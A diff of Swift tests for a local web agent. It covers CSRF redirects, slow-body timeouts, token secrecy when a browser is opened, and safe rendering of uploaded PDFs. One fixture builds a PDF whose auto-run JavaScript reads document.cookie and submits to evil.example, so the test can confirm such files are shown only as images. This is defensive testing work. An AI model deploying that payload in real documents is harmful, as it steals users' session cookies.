@@ -235,14 +235,16 @@ import Testing
                                   headers: ["Cookie": cookie, "Origin": origin, "Sec-Fetch-Site": "same-site"]).status == 403)
         // Chromium sends Origin: null for a form under Referrer-Policy: no-referrer, with Sec-Fetch-Site.
         #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
-                                  headers: ["Cookie": cookie, "Origin": "null", "Sec-Fetch-Site": "same-origin"]).status == 200)
+                                  headers: ["Cookie": cookie, "Origin": "null", "Sec-Fetch-Site": "same-origin"]).status == 303)
         #expect(try agent.request("POST", "/search", body: "q=x", headers: ["Cookie": cookie, "Origin": origin]).status == 403)
         #expect(try agent.request("POST", "/search", body: "q=x&csrf=" + String(repeating: "a", count: 64),
                                   headers: ["Cookie": cookie, "Origin": origin]).status == 403)
         let searched = try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
-        #expect(searched.status == 200)
+        #expect(searched.status == 303)
+        #expect(searched.header("location") == "/search")
+        #expect(try agent.request("GET", "/search", headers: ["Cookie": cookie]).body.contains("value=\"x\""))
         #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
-                                  headers: ["Cookie": cookie, "Sec-Fetch-Site": "same-origin"]).status == 200)
+                                  headers: ["Cookie": cookie, "Sec-Fetch-Site": "same-origin"]).status == 303)
         // GET never changes anything: the actions answer only POST.
         #expect(try agent.request("GET", "/doses/take?medication=x", headers: ["Cookie": cookie]).status != 200)
 
@@ -254,6 +256,49 @@ import Testing
         // The token never reached the agent's command line.
         let commandLine = try String(contentsOfFile: "/proc/\(agent.pid)/cmdline", encoding: .utf8)
         #expect(!commandLine.contains(token))
+    }
+
+    @Test func aFormThatTricklesInIsCutOff() throws {
+        let cli = try CLI(label: "serve-slow")
+        defer { cli.cleanUp() }
+        _ = try cli.initVault(passphrase: Self.passphrase)
+        let agent = try Agent(cli)
+        defer { agent.stop() }
+        let (cookie, csrf) = try agent.signIn()
+        // The body says 1000 bytes and sends 20: the agent stops waiting after 10 s.
+        let text = "POST /search HTTP/1.1\r\nHost: \(agent.host)\r\nCookie: \(cookie)\r\nOrigin: http://\(agent.host)\r\n"
+            + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nq=x&csrf=\(csrf.prefix(10))"
+        let started = Date()
+        let answer = try HTTPAnswer.exchange(address: agent.address, port: agent.port, request: Array(text.utf8))
+        let waited = Date().timeIntervalSince(started)
+        #expect(answer.status == 408)
+        #expect(waited >= 9 && waited < 20, "\(waited) s")
+        #expect(try agent.request("GET", "/", headers: ["Cookie": cookie]).status == 200)
+    }
+
+    @Test func openHandsTheBrowserTheFileNeverTheToken() throws {
+        let cli = try CLI(label: "serve-open")
+        defer { cli.cleanUp() }
+        _ = try cli.initVault(passphrase: Self.passphrase)
+        // A stand-in browser opener that records its command line and the file it was given.
+        let bin = cli.directory + "/bin"
+        try FileManager.default.createDirectory(atPath: bin, withIntermediateDirectories: true)
+        let opener = bin + "/xdg-open"
+        let seen = cli.directory + "/opened"
+        try "#!/bin/sh\nprintf '%s\\n' \"$@\" > \(seen).tmp; cat /proc/$$/cmdline | tr '\\0' ' ' >> \(seen).tmp; mv \(seen).tmp \(seen)\n"
+            .write(toFile: opener, atomically: true, encoding: .utf8)
+        chmod(opener, 0o755)
+        var withOpener = cli
+        withOpener.environment["PATH"] = bin + ":/usr/bin:/bin"
+        let agent = try Agent(withOpener, arguments: ["--open"])
+        defer { agent.stop() }
+        var opened = ""
+        for _ in 0..<250 where opened.isEmpty {
+            opened = (try? String(contentsOfFile: seen, encoding: .utf8)) ?? ""
+            usleep(20_000)
+        }
+        #expect(opened.hasPrefix(agent.launchFile + "\n"), "\(opened)")
+        #expect(!opened.contains(try agent.token()))
     }
 
     @Test func onlyLoopbackAddressesAreServed() throws {
@@ -377,6 +422,61 @@ import Testing
     }
 }
 
+extension ServeTests {
+    /// A one-page PDF that runs JavaScript when a PDF viewer opens it (/OpenAction), with a line
+    /// of text: built here with exact xref offsets.
+    static func pdfWithJavaScript(text: String) -> [UInt8] {
+        let stream = "BT /F1 24 Tf 72 700 Td (\(text)) Tj ET"
+        let objects = [
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
+            "<< /Length \(stream.utf8.count) >>\nstream\n\(stream)\nendstream",
+            "<< /S /JavaScript /JS (app.alert\\(document.cookie\\); this.submitForm\\('http://evil.example/'\\);) >>",
+            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        ]
+        var pdf = "%PDF-1.7\n"
+        var offsets: [Int] = []
+        for (index, object) in objects.enumerated() {
+            offsets.append(pdf.utf8.count)
+            pdf += "\(index + 1) 0 obj\n\(object)\nendobj\n"
+        }
+        let xref = pdf.utf8.count
+        pdf += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
+        for offset in offsets { pdf += String(format: "%010d 00000 n \n", offset) }
+        pdf += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n"
+        return Array(pdf.utf8)
+    }
+
+    @Test func aPDFWithJavaScriptIsShownAsAPictureAndNeverAsAPDF() throws {
+        let cli = try CLI(label: "serve-js")
+        defer { cli.cleanUp() }
+        _ = try cli.initVault(passphrase: Self.passphrase)
+        let path = cli.directory + "/scripted.pdf"
+        #expect(FileManager.default.createFile(atPath: path, contents: Data(Self.pdfWithJavaScript(text: "Scripted letter"))))
+        let add = try cli.run(["doc", "add", path, "--json"], Self.env)
+        #expect(add.status == 0, "\(add.stderr)")
+        let docID = try #require(add.stdout.range(of: #""id" *: *"[0-9a-z]{6}""#, options: .regularExpression)
+            .map { String(add.stdout[$0].suffix(7).dropLast()) })
+        let agent = try Agent(cli)
+        defer { agent.stop() }
+        let (cookie, _) = try agent.signIn()
+        let viewer = try agent.request("GET", "/documents/\(docID)", headers: ["Cookie": cookie])
+        #expect(viewer.status == 200)
+        #expect(viewer.body.contains("Scripted letter"))
+        #expect(!viewer.body.contains("<embed") && !viewer.body.contains("<object") && !viewer.body.contains("<iframe"))
+        #expect(!viewer.body.contains("/original\"><img") && viewer.body.contains("/pages/1?size=full"))
+        let image = try agent.request("GET", "/documents/\(docID)/pages/1?size=full", headers: ["Cookie": cookie])
+        #expect(image.header("content-type") == "image/png")
+        #expect(Array(image.bodyBytes.prefix(4)) == [0x89, 0x50, 0x4E, 0x47])
+        // The original only ever leaves as an inert attachment.
+        let original = try agent.request("GET", "/documents/\(docID)/original", headers: ["Cookie": cookie])
+        #expect(original.header("content-type") == "application/octet-stream")
+        #expect(original.header("content-disposition")?.hasPrefix("attachment") == true)
+        #expect(original.header("content-security-policy")?.hasPrefix("sandbox") == true)
+    }
+}
+
 extension CLI {
     /// A private runtime directory for agents started by this test (XDG_RUNTIME_DIR).
     var runtimeDirectory: String {
@@ -392,10 +492,11 @@ extension CLI {
 /// the canary put in a record and a document is looked for in the browser's profile. Screenshots
 /// of each screen go to .build/screenshots/serve for review.
 @Suite(.serialized) struct ServeBrowserTests {
-    static let browserReady = ["/usr/bin/chromium", "/usr/bin/chromedriver"].allSatisfy { FileManager.default.isExecutableFile(atPath: $0) }
-        && FileManager.default.fileExists(atPath: "/usr/lib/python3/dist-packages/selenium")
+    /// The Python with Selenium and axe-core that `make deps` sets up.
+    static let python = "\(CLI.packageRoot)/.build/venv-browser/bin/python3"
+    static let browserReady = ["/usr/bin/chromium", "/usr/bin/chromedriver", python].allSatisfy { FileManager.default.isExecutableFile(atPath: $0) }
 
-    @Test(.enabled(if: browserReady, "needs chromium, chromium-driver and python3-selenium (make deps installs them)"))
+    @Test(.enabled(if: browserReady, "needs chromium, chromium-driver, python3-selenium and axe-core in .build/venv-browser (make deps sets them up)"))
     func theUIWorksInARealBrowserAndLeavesNothingBehind() throws {
         let cli = try CLI(label: "serve-browser")
         defer { cli.cleanUp() }
@@ -417,7 +518,7 @@ extension CLI {
         let ready = try JSONSerialization.data(withJSONObject: ["url": agent.url, "launch_file": agent.launchFile])
         let shots = "\(CLI.packageRoot)/.build/screenshots/serve"
         let process = Process()
-        process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
+        process.executableURL = URL(fileURLWithPath: Self.python)
         process.arguments = ["\(CLI.packageRoot)/Tests/Browser/serve_browser.py", String(decoding: ready, as: UTF8.self), shots,
                              cli.directory + "/chromium-profile", canary]
         process.environment = ["PATH": "/usr/bin:/bin", "HOME": cli.directory, "LANG": "C.UTF-8"]
